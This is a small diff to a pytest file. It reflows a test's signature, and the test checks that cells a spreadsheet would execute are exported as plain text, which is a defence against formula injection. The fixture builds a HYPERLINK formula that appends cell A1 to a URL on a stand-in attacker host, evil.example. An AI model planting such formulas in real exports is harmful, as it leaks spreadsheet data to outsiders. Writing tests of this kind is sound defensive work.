@@ -319,9 +319,7 @@ def _exported(caller: Caller, **query: Any) -> list[dict[str, str]]:
 
 
 @pytest.mark.parametrize("start", FORMULA_STARTS.values(), ids=FORMULA_STARTS.keys())
-def test_cells_a_spreadsheet_would_run_are_exported_as_text(
-    store_world: World, start: str
-) -> None:
+def test_cells_a_spreadsheet_would_run_are_exported_as_text(store_world: World, start: str) -> None:
     owner = store_world.caller("viewer")
     formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
     record = store_world.record(owner.id, description=formula)
